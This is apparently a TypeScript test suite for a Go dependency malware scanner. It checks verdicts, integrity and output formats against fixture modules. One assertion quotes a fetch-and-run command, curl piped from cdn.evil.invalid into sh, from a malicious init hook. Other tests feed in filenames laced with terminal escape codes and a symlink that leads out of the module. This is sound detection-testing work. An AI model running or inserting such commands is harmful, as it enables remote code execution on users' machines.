// scan end to end: what is proven is read, what is not is said; every kind of target, and every format.
import assert from 'node:assert/strict'
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import test from 'node:test'
import { FORMATS } from '../../src/report/formats.ts'
import type { ScanReport } from '../../src/report/scan.ts'
import { checkSarif } from '../support/sarifschema.ts'
import { evil, HARMFUL, moduleAt, scan } from '../support/scanning.ts'
import { publish, put, withUniverse } from '../support/universe.ts'
import { VALID } from '../support/validformats.ts'

const quote = publish('rsc.io/quote', 'v1.5.2')

test('scan of a sound project: its modules and itself are clean, exit 0', async () => {
  await withUniverse(async (u) => {
    u.sound([quote])
    u.write('main.go', 'package main\n\nimport "rsc.io/quote"\n\nfunc main() { println(quote.Hello()) }\n')
    const { code, report } = await scan(u)
    assert.equal(code, 0)
    assert.deepEqual(
      report.modules.map((m) => [m.path, m.version, m.role, m.verdict, m.incomplete, m.integrity]),
      [
        ['github.com/me/project', '', 'main', 'clean', false, undefined],
        ['rsc.io/quote', 'v1.5.2', 'version', 'clean', false, 'proven'],
      ],
    )
    assert.equal(moduleAt(report, 'rsc.io/quote').dir, u.paths(quote).folder)
    assert.equal(moduleAt(report, 'rsc.io/quote').h1, quote.h1)
    const text = await u.run(['scan'])
    assert.match(text.stdout, /^ok: nothing malicious, nothing suspicious\. {3}0 malicious · 0 suspicious · 2 clean\n/)
    assert.equal((await u.run(['scan', '-q'])).stdout, '')
  })
})

test('scan of a malicious dependency: exit 1, with its evidence and the way to it', async () => {
  await withUniverse(async (u) => {
    u.sound([quote, evil])
    u.write('main.go', 'package main\n\nimport "github.com/me/project/store"\n\nfunc main() { store.New() }\n')
    u.write('store/store.go', 'package store\n\nimport _ "rsc.io/evil"\n\nfunc New() {}\n')
    const { code, report } = await scan(u)
    assert.equal(code, 1)
    const found = moduleAt(report, 'rsc.io/evil')
    assert.equal(found.verdict, 'malicious')
    assert.deepEqual(found.at, { file: 'go.mod', line: 7 })
    assert.equal(found.direct, true)
    const finding = found.findings.find((f) => f.rule === 'MW-INIT-EXEC')
    assert.deepEqual(
      [finding?.severity, finding?.file, finding?.line, finding?.trigger],
      ['critical', 'evil.go', 6, 'init'],
    )
    assert.match(finding?.code ?? '', /^exec\.Command\("sh", "-c"/)
    assert.deepEqual(
      found.reached?.map((step) => [step.file, step.line, step.what]),
      [['store/store.go', 3, 'imports rsc.io/evil']],
    )
    const { stdout } = await u.run(['scan'])
    assert.match(stdout, /^MALICIOUS {2}rsc\.io\/evil@v1\.0\.0 {2}direct, go\.mod:7 {2}MW-/)
    assert.match(stdout, /\n {5}evil\.go:6 .*curl -fsSL https:\/\/cdn\.evil\.invalid\/setup \| sh/)
    assert.match(stdout, /\n {2}reached {3}your store\/store\.go:3 imports rsc\.io\/evil\n/)
    assert.match(stdout, /\n {2}do {8}go mod edit -droprequire=rsc\.io\/evil && go mod tidy\n/)
  })
})

test('scan says the same again from what it kept, and reads anew with --full', async () => {
  await withUniverse(async (u) => {
    u.sound([evil])
    const first = await scan(u)
    const second = await scan(u)
    const third = await scan(u, ['--full'])
    assert.deepEqual(
      [first, second, third].map(({ report }) => report.modules.map((m) => m.cached)),
      [
        [false, false],
        [true, true],
        [false, false],
      ],
    )
    const plain = (report: ScanReport): unknown => report.modules.map((m) => ({ ...m, cached: false }))
    assert.deepEqual(plain(second.report), plain(first.report))
    assert.deepEqual(plain(third.report), plain(first.report))
  })
})

test('a kept judgement that was changed or torn counts for nothing', async () => {
  await withUniverse(async (u) => {
    u.sound([evil])
    assert.equal((await scan(u)).code, 1)
    const hex = Buffer.from(evil.h1.slice(3), 'base64').toString('hex')
    const file = path.join(u.store, 'facts', hex.slice(0, 2), `${hex}.judged`)
    const text = readFileSync(file, 'utf8')
    for (const broken of [text.replace('"malicious"', '"clean"    '), text.slice(0, 300), '']) {
      writeFileSync(file, broken)
      const { code, report } = await scan(u)
      assert.equal(code, 1)
      assert.equal(moduleAt(report, 'rsc.io/evil').cached, false)
      assert.equal(readFileSync(file, 'utf8'), text)
    }
  })
})

test('a module that is not in the cache is fetched, proven and read', async () => {
  await withUniverse(async (u) => {
    u.serve([quote, evil])
    u.require([quote, evil])
    const { code, report } = await scan(u)
    assert.equal(code, 1)
    assert.equal(moduleAt(report, 'rsc.io/evil').verdict, 'malicious')
    assert.equal(moduleAt(report, 'rsc.io/evil').integrity, 'proven')
    assert.ok(!existsSync(u.paths(evil).folder))
    assert.deepEqual(u.leftovers(), [])
  })
})

test('a module version by its name is fetched and proven first', async () => {
  await withUniverse(async (u) => {
    u.serve([evil])
    const { code, report } = await scan(u, ['rsc.io/evil@v1.0.0'])
    assert.equal(code, 1)
    assert.deepEqual([report.subject.kind, report.modules.length], ['version', 1])
    assert.equal(moduleAt(report, 'rsc.io/evil').integrity, 'proven')
    const unknown = await scan(u, ['rsc.io/quote@v1.9.9'])
    assert.equal(unknown.code, 1)
    assert.equal(moduleAt(unknown.report, 'rsc.io/quote').incomplete, true)
    const wrong = await scan(u, ['rsc.io/evil@latest'])
    assert.equal(wrong.code, 2)
  })
})

test('what cannot be fetched is incomplete, exit 3, and is no pass', async () => {
  await withUniverse(async (u) => {
    u.serve([quote])
    u.require([quote])
    const { code, report } = await scan(u, ['--offline'])
    assert.equal(code, 3)
    const found = moduleAt(report, 'rsc.io/quote')
    assert.deepEqual([found.incomplete, found.dir], [true, ''])
    assert.match(found.reasons.join('\n'), /its contents are not here: /)
    assert.equal(u.requests.length, 0)
  })
})

test('a changed folder is read as it is, because go builds it; integrity is broken, exit 4', async () => {
  await withUniverse(async (u) => {
    u.sound([quote])
    put(path.join(u.paths(quote).folder, 'more.go'), HARMFUL.replace('package evil', 'package quote'))
    const { code, report } = await scan(u)
    assert.equal(code, 4)
    const found = moduleAt(report, 'rsc.io/quote')
    assert.deepEqual([found.verdict, found.integrity], ['malicious', 'broken'])
    assert.equal(report.integrity?.exitCode, 4)
    const { stdout } = await u.run(['scan'])
    assert.match(stdout, /\nINTEGRITY {2}1 module version is not what was agreed on\n {2}next {6}modwarden verify\n/)
  })
})

test('a zip that is another module in the cache is read, and does not pass for the agreed one', async () => {
  await withUniverse(async (u) => {
    u.sound([quote])
    const other = publish('rsc.io/quote', 'v1.5.2', { 'quote.go': HARMFUL.replace('package evil', 'package quote') })
    writeFileSync(u.paths(quote).zip, other.zip)
    const { code, report } = await scan(u)
    assert.equal(code, 4)
    assert.deepEqual(
      [moduleAt(report, 'rsc.io/quote').verdict, moduleAt(report, 'rsc.io/quote').integrity],
      ['clean', 'broken'],
    )
    rmSync(u.paths(quote).folder, { recursive: true })
    const alone = await scan(u)
    assert.equal(alone.code, 4)
    assert.equal(moduleAt(alone.report, 'rsc.io/quote').verdict, 'malicious')
  })
})

test('scan --module reads the files of one folder alone, and needs nothing else', async () => {
  await withUniverse(async (u) => {
    const folder = path.join(u.root, 'alone')
    put(path.join(folder, 'go.mod'), 'module example.com/alone\n\nrequire rsc.io/quote v1.5.2\n')
    put(path.join(folder, 'evil.go'), HARMFUL)
    put(path.join(folder, 'nested', 'go.mod'), 'module example.com/nested\n')
    put(path.join(folder, 'nested', 'evil.go'), HARMFUL)
    put(path.join(folder, '.git', 'hooks', 'evil.go'), HARMFUL)
    const { code, report } = await scan(u, [folder, '--module', '--offline'], { env: { GOPROXY: undefined } })
    assert.equal(code, 1)
    assert.deepEqual(
      report.modules.map((m) => [m.path, m.version, m.dir, m.verdict, m.coverage.goFiles]),
      [['example.com/alone', '', folder, 'malicious', 1]],
    )
    assert.equal(u.requests.length, 0)
  })
})

test('modules below a project, in replaced folders and in vendor/ are looked at', async () => {
  await withUniverse(async (u) => {
    u.sound([quote])
    u.require([quote], { goMod: '\nrequire example.com/side v0.0.0\n\nreplace example.com/side => ../side\n' })
    put(path.join(u.root, 'side', 'go.mod'), 'module example.com/side\n')
    put(path.join(u.root, 'side', 'side.go'), HARMFUL)
    u.write('tools/go.mod', 'module github.com/me/project/tools\n\ngo 1.21\n')
    u.write('tools/tools.go', HARMFUL)
    const { code, report } = await scan(u)
    assert.equal(code, 1)
    assert.deepEqual(
      report.modules.filter((m) => m.verdict === 'malicious').map((m) => [m.path, path.relative(u.root, m.dir)]),
      [
        ['example.com/side', 'side'],
        ['github.com/me/project/tools', 'project/tools'],
      ],
    )
  })
})

test('vendor/ that is not what the modules hold is read as it is', async () => {
  await withUniverse(async (u) => {
    u.sound([quote])
    u.write('main.go', 'package main\n\nimport _ "rsc.io/quote"\n\nfunc main() {}\n')
    u.write('vendor/modules.txt', '# rsc.io/quote v1.5.2\n## explicit; go 1.21\nrsc.io/quote\n')
    u.write('vendor/rsc.io/quote/quote.go', HARMFUL.replace('package evil', 'package quote'))
    u.write('vendor/rsc.io/stray/stray.go', HARMFUL.replace('package evil', 'package stray'))
    const { code, report } = await scan(u)
    assert.equal(code, 4)
    assert.deepEqual(
      report.modules.map((m) => [m.path, m.role, m.verdict]),
      [
        ['github.com/me/project', 'main', 'malicious'],
        ['rsc.io/quote', 'vendored', 'malicious'],
        ['rsc.io/quote', 'version', 'clean'],
      ],
    )
    const alone = await scan(u, ['--module', '--offline'])
    assert.deepEqual(
      alone.report.modules.map((m) => [m.path, m.version, m.role, m.verdict]),
      [
        ['github.com/me/project', '', 'main', 'malicious'],
        ['rsc.io/quote', 'v1.5.2', 'vendored', 'malicious'],
      ],
    )
  })
})

test('a module zip is read strictly; another zip is refused', async () => {
  await withUniverse(async (u) => {
    const file = u.write('evil.zip', evil.zip)
    const { code, report } = await scan(u, [file, '--offline'])
    assert.equal(code, 1)
    assert.deepEqual([report.subject.kind, moduleAt(report, 'rsc.io/evil').h1], ['zip', evil.h1])
    const cut = await scan(u, [u.write('cut.zip', evil.zip.subarray(0, 100))])
    assert.equal(cut.code, 2)
  })
})

test('scan --cache reads every version of the module cache', async () => {
  await withUniverse(async (u) => {
    u.sound([quote, evil])
    const { code, report } = await scan(u, ['--cache'])
    assert.equal(code, 1)
    assert.deepEqual(
      report.modules.map((m) => [m.path, m.verdict]),
      [
        ['rsc.io/evil', 'malicious'],
        ['rsc.io/quote', 'clean'],
      ],
    )
  })
})

test('--fail-on says from which verdict on the run fails', async () => {
  await withUniverse(async (u) => {
    u.sound([evil])
    assert.equal((await scan(u, ['--fail-on', 'malicious'])).code, 1)
    const none = await scan(u, ['--fail-on', 'none'])
    assert.deepEqual([none.code, none.report.summary.malicious], [0, 1])
  })
})

test('what cannot be read in a folder makes it incomplete: links that lead out, Go that is none', async () => {
  await withUniverse(async (u) => {
    const folder = path.join(u.root, 'odd')
    put(path.join(folder, 'go.mod'), 'module example.com/odd\n')
    put(path.join(folder, 'a.go'), 'package odd\n')
    symlinkSync('/etc/hostname', path.join(folder, 'out.go'))
    const linked = await scan(u, [folder, '--module'])
    assert.equal(linked.code, 3)
    assert.deepEqual(moduleAt(linked.report, 'example.com/odd').reasons, [
      'out.go: a link that leads out of the module',
    ])
    const broken = path.join(u.root, 'broken')
    put(path.join(broken, 'go.mod'), 'module example.com/broken\n')
    put(path.join(broken, 'a.go'), 'package broken\n\nfunc ( {{{ )\n')
    const { code, report } = await scan(u, [broken, '--module'])
    assert.equal(code, 3)
    assert.equal(moduleAt(report, 'example.com/broken').incomplete, true)
    const { stdout } = await u.run(['scan', broken, '--module', '--explain-coverage'])
    assert.match(stdout, /\n {2}example\.com\/broken {3}1 of 2 files are Go; 1 not in full\n {5}a\.go:\d+ /)
  })
})

test('names and lines from a module move no cursor and begin no line of their own', async () => {
  await withUniverse(async (u) => {
    const folder = path.join(u.root, 'hostile')
    put(path.join(folder, 'go.mod'), 'module example.com/hostile\n')
    const source = HARMFUL.replace('curl', '\u001B[2Jcurl').replace('// Hello', '// \u001B]0;owned\u0007\u202E Hello')
    put(path.join(folder, 'a\u001B[31m\nok: nothing malicious.go'), source)
    const { code, stdout } = await u.run(['scan', folder, '--module', '-v', '--capabilities'])
    assert.equal(code, 1)
    assert.ok(!/[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E]/.test(stdout), JSON.stringify(stdout))
    assert.ok(!stdout.split('\n').some((line) => line.startsWith('ok: nothing')), stdout)
  })
})

test('scan in every format: a valid document, the same exit code, code flows in SARIF', async () => {
  await withUniverse(async (u) => {
    u.sound([quote, evil])
    u.write('main.go', 'package main\n\nimport _ "rsc.io/evil"\n\nfunc main() {}\n')
    const outputs = FORMATS.flatMap((format) => ['-o', `${format}=out/${format}`])
    assert.equal((await u.run(['scan', ...outputs])).code, 1)
    for (const format of FORMATS) VALID[format](readFileSync(path.join(u.project, 'out', format), 'utf8'), 1)
    const { log, troubles } = checkSarif(readFileSync(path.join(u.project, 'out/sarif'), 'utf8'))
    assert.deepEqual(troubles, [])
    const result = log.runs[0]?.results.find((r) => r.ruleId === 'MW-INIT-EXEC')
    assert.deepEqual(result?.locations[0]?.physicalLocation, {
      artifactLocation: { uri: 'go.mod', uriBaseId: '%SRCROOT%' },
      region: { startLine: 7 },
    })
    const flow = JSON.stringify(result)
    assert.match(flow, /"uri":"main\.go","uriBaseId":"%SRCROOT%"\},"region":\{"startLine":3\}/)
    assert.match(
      flow,
      /"uri":"rsc\.io\/evil%40v1\.0\.0\/evil\.go","uriBaseId":"GOMODCACHE"\},"region":\{"startLine":6\}/,
    )
    const again = await u.run(['convert', 'out/json', '-f', 'text'])
    assert.equal(again.stdout, readFileSync(path.join(u.project, 'out/text'), 'utf8'))
  })
})

test('audit has a line about behaviour', async () => {
  await withUniverse(async (u) => {
    u.sound([quote])
    const sound = await u.run(['audit'])
    assert.equal(sound.code, 0)
    assert.match(sound.stdout, /\n {2}behaviour {3}ok {4}0 malicious, 0 suspicious of 2\n/)
    u.sound([quote, evil])
    const bad = await u.run(['audit'])
    assert.equal(bad.code, 1)
    assert.match(bad.stdout, /^MALICIOUS {2}rsc\.io\/evil@v1\.0\.0/)
    assert.match(bad.stdout, /\n {2}behaviour {3}FAIL {2}1 malicious, 0 suspicious of 3\n/)
    assert.match(bad.stdout, /\nFAIL: 1 module would do harm\. Do not build or run it\. /)
  })
})

for (const [args, said] of [
  [['.', '--cache'], /a target and --cache: one of them at a time/],
  [['--module', '--cache'], /--module goes with a folder/],
  [['nothing-here'], /no such file or folder/],
  [['--fail-on', 'often'], /Allowed: malicious, suspicious, none/],
] as const) {
  test(`modwarden scan ${args.join(' ')}: exit 2, and helps`, async () => {
    await withUniverse(async (u) => {
      const { code, stderr } = await u.run(['scan', ...args])
      assert.equal(code, 2)
      assert.match(stderr, said)
    })
  })
}

test('scan of a folder with several modules and no go.mod of its own looks at each', async () => {
  await withUniverse(async (u) => {
    const folder = path.join(u.root, 'many')
    mkdirSync(folder)
    put(path.join(folder, 'a', 'go.mod'), 'module example.com/a\n\ngo 1.21\n')
    put(path.join(folder, 'a', 'a.go'), 'package a\n')
    put(path.join(folder, 'b', 'go.mod'), 'module example.com/b\n\ngo 1.21\n')
    put(path.join(folder, 'b', 'b.go'), HARMFUL)
    const { code, report } = await scan(u, [folder])
    assert.equal(code, 1)
    assert.deepEqual(
      report.modules.map((m) => [m.path, m.role, m.verdict]),
      [
        ['example.com/b', 'main', 'malicious'],
        ['example.com/a', 'main', 'clean'],
      ],
    )
  })
})
